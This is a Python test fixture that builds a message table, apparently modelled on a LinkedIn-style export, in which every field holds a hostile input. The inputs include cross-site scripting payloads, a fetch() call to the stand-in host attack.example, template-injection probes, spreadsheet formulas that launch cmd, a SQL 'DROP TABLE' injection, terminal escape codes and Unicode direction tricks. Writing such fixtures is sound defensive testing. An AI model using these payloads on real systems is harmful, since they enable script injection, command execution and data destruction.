"""Messages written to do harm to whoever shows them."""

from __future__ import annotations

from pathlib import Path

import pandas as pd

CALL = "fetch('https://attack.example/x')"
TEXTS = [
    f"<script>{CALL};window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "<!--<script>window.hacked=1//-->",
    "]]><svg onload=window.hacked=1><script>window.hacked=1</script></svg>",
    "<img src=https://attack.example/pixel.png onerror=window.hacked=1>",
    '<a href="javascript:window.hacked=1">click</a> javascript:window.hacked=1',
    "<style>body{background:url(https://attack.example/bg)}</style><link rel=stylesheet href=https://attack.example/a.css>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe><meta http-equiv=refresh content='0;url=https://attack.example'>",
    "<base href=https://attack.example/><form action=https://attack.example><input autofocus onfocus=window.hacked=1></form>",
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("https://attack.example","click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "null \x01 bell \x07 escape \x1b[31m red \x1b]0;title\x07 end",
    "right to left \u202egnp.exe\u202c and isolates \u2066x\u2069 and \u200eLRM\u200f",
    "tags \U000e0041\U000e0042 zero \u200b\u2060 width \ufeff",
    "lone \ud800 surrogate \udc00 here",
    "W" * 60_000,
    "zalgo " + "a" + "\u0301" * 2_000,
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "https://xn--e1afmkfd.example/ https://пример.example/a?b=<script> http://user:pw@attack.example/ https://[::1",
    "__proto__ constructor toString hasOwnProperty",
    "[bold red]markup[/bold red] [link=https://attack.example]x[/link]",
]
IDS = [
    "__proto__",
    "constructor",
    "=1+1",
    "</script>",
    "'; DROP TABLE threads; --",
    "<b>x</b>",
    "@id",
    "\u202eid",
    'a\nb,"c"',
]
URLS = [
    "javascript:window.hacked=1",
    "https://attack.example/in/x",
    "https://www.linkedin.com/in/../../evil?x=<script>",
    "https://www.linkedin.com/in/a%22%3E%3Cscript%3Ewindow.hacked=1%3C/script%3E",
    "",
]
"""Sender addresses; the texts also serve as senders' names and subjects."""


def messages() -> pd.DataFrame:
    """A message table (columns of the message CSV) in which every cell is an attack."""
    rows = []
    for i, text in enumerate(TEXTS):
        thread = IDS[i] if i < len(IDS) else f"t{i}"
        for k, said in enumerate((text, "Please book a call. " + text)):
            rows.append(
                {
                    "thread_id": thread,
                    "sent_at": f"2026-01-{k + 1:02}T00:00:00Z",
                    "direction": "received",
                    "kind": "message",
                    "sender": text[:200],
                    "sender_url": URLS[i % len(URLS)],
                    "subject": text[:200],
                    "recipient": "Ann Roe",
                    "recipient_headline": text[:200],
                    "text": said,
                }
            )
    return pd.DataFrame(rows, dtype=object)  # a string column of pandas' own holds no lone surrogates


def as_parquet(path: Path) -> Path:
    """The attacks as a Parquet file; lone surrogates, which Parquet cannot hold, replaced."""
    table = messages().map(lambda cell: cell.encode("utf-8", "replace").decode())
    table.to_parquet(path, index=False)
    return path
